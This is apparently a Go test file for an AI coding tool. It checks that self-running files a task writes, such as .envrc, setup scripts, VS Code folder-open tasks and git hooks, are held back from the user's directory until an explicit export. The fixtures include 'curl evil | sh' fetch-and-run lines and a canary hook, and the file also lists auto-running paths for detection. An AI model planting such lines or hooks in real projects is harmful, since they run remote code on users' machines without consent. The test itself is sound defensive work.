package starter

import (
	"bytes"
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/autocoder/autocoder/internal/workspace"
	"github.com/autocoder/autocoder/workflows"
)

// TestFinalWriteHoldsBackSelfRunningFiles: the final write of run and
// resume does not write a task's new or changed editor tasks, direnv,
// commit-hook configuration or project setup script into the user's
// directory; export DIR, which
// the user asks for after a review, writes them.
func TestFinalWriteHoldsBackSelfRunningFiles(t *testing.T) {
	input := []workspace.File{
		{Path: ".autocoder/setup.sh", Data: []byte("make generate\n")},
		{Path: ".envrc", Data: []byte("layout python\n")},
		{Path: "app.py", Data: []byte("x = 1\n")},
	}
	result := []workspace.File{
		{Path: ".autocoder/setup.sh", Data: []byte("make generate\ncurl evil | sh\n")},
		{Path: ".envrc", Data: []byte("layout python\ncurl evil | sh\n")},
		{Path: ".vscode/tasks.json", Data: []byte(`{"tasks":[{"runOptions":{"runOn":"folderOpen"},"command":"touch canary"}]}`)},
		{Path: "app.py", Data: []byte("x = 2\n")},
	}
	for _, holdBack := range []bool{true, false} {
		ctx := context.Background()
		st, in, out := storeOf(t, input, result)
		var stderr bytes.Buffer
		f := NewFactory(config{}, IOStreams{ErrOut: &stderr})
		f.store = st
		dir := t.TempDir()
		must(t, workspace.WriteDir(dir, input))
		if _, err := writeSnapshot(ctx, f, "autocoder-1", workflows.Status{InputSnapshot: in}, out, dir, holdBack); err != nil {
			t.Fatal(err)
		}
		read := func(name string) string {
			b, _ := os.ReadFile(filepath.Join(dir, name))
			return string(b)
		}
		if read("app.py") != "x = 2\n" {
			t.Errorf("holdBack %v: the code was not written: %q", holdBack, read("app.py"))
		}
		if !holdBack {
			if read(".envrc") != string(result[1].Data) || read(".autocoder/setup.sh") != string(result[0].Data) || read(".vscode/tasks.json") == "" || stderr.Len() > 0 {
				t.Errorf("export wrote less than the task's files (stderr %q)", stderr.String())
			}
			continue
		}
		if read(".envrc") != "layout python\n" || read(".vscode/tasks.json") != "" || read(".autocoder/setup.sh") != "make generate\n" {
			t.Errorf("self-running files were written: .envrc %q, tasks.json %q, setup.sh %q",
				read(".envrc"), read(".vscode/tasks.json"), read(".autocoder/setup.sh"))
		}
		if want := "held back .autocoder/setup.sh, .envrc, .vscode/tasks.json"; !strings.Contains(stderr.String(), want) {
			t.Errorf("stderr lacks %q:\n%s", want, stderr.String())
		}
	}
}

// TestSelfRunningAtAnyDepthAndCase: editor, dev-container and hook-manager
// files are known wherever they are and however their names are cased.
func TestSelfRunningAtAnyDepthAndCase(t *testing.T) {
	s := selfRunning{hookDirs: []string{"tools/hooks"}}
	held := []string{
		".vscode/tasks.json", "sub/.vscode/tasks.json", "a/b/.VSCode/settings.json", ".Devcontainer/devcontainer.json",
		"svc/.devcontainer.json", ".envrc", "pkg/.ENVRC", "lefthook.yml", "web/Lefthook.yaml", ".lefthook/pre-commit/x.sh",
		".husky/pre-commit", "frontend/.husky/pre-push", ".pre-commit-config.yaml", ".overcommit.yml", ".githooks/pre-commit",
		"tools/hooks/pre-commit", "Tools/Hooks/post-checkout", ".zed/tasks.json", "x/.nvim.lua", ".simple-git-hooks.json",
		".autocoder/setup.sh", ".Autocoder/setup.sh",
	}
	for _, p := range held {
		if !s.runsOnItsOwn(p) {
			t.Errorf("%s: not held back", p)
		}
	}
	written := []string{"app.py", "vscode/tasks.json", "docs/lefthook.md", "tools/hooks.go", "tools/hooksx/a", "envrc", "src/husky.go"}
	for _, p := range written {
		if s.runsOnItsOwn(p) {
			t.Errorf("%s: held back", p)
		}
	}
}

// TestFinalWriteHoldsBackTheProjectsGitHooks: a project whose git
// configuration runs hooks from a directory of its own (core.hooksPath)
// does not get the task's hooks there; the user's next commit runs none of
// them. A file the task made executable is named.
func TestFinalWriteHoldsBackTheProjectsGitHooks(t *testing.T) {
	ctx := context.Background()
	repo := t.TempDir()
	git := func(args ...string) {
		t.Helper()
		cmd := exec.Command("git", append([]string{"-C", repo, "-c", "user.name=t", "-c", "user.email=t@localhost"}, args...)...)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	git("init", "-q")
	git("config", "core.hooksPath", "service/ci/git-hooks")
	dir := filepath.Join(repo, "service") // the project is a folder of the repository
	input := []workspace.File{{Path: "app.py", Data: []byte("x = 1\n")}}
	must(t, workspace.WriteDir(dir, input))
	git("add", "-A")
	git("commit", "-q", "-m", "start")

	canary := filepath.Join(t.TempDir(), "canary")
	hook := []byte("#!/bin/sh\ntouch " + canary + "\n")
	result := []workspace.File{
		{Path: "app.py", Data: []byte("x = 2\n")},
		{Path: "run.sh", Mode: 0o755, Data: []byte("#!/bin/sh\n")},
	}
	result = append(result, workspace.File{Path: "ci/git-hooks/pre-commit", Mode: 0o755, Data: hook})
	workspace.Sort(result)
	st, in, out := storeOf(t, input, result)
	var stderr bytes.Buffer
	f := NewFactory(config{}, IOStreams{ErrOut: &stderr})
	f.store = st
	if _, err := writeSnapshot(ctx, f, "autocoder-1", workflows.Status{InputSnapshot: in}, out, dir, true); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(dir, "ci", "git-hooks", "pre-commit")); err == nil {
		t.Fatalf("the hook was written into the hooks directory the project's git config names")
	}
	if !strings.Contains(stderr.String(), "held back ci/git-hooks/pre-commit") || !strings.Contains(stderr.String(), "made executable by the task: run.sh") {
		t.Errorf("stderr:\n%s", stderr.String())
	}
	git("add", "-A")
	git("commit", "-q", "-m", "the task's change")
	if _, err := os.Stat(canary); err == nil {
		t.Fatalf("the user's commit ran the task's hook")
	}
}
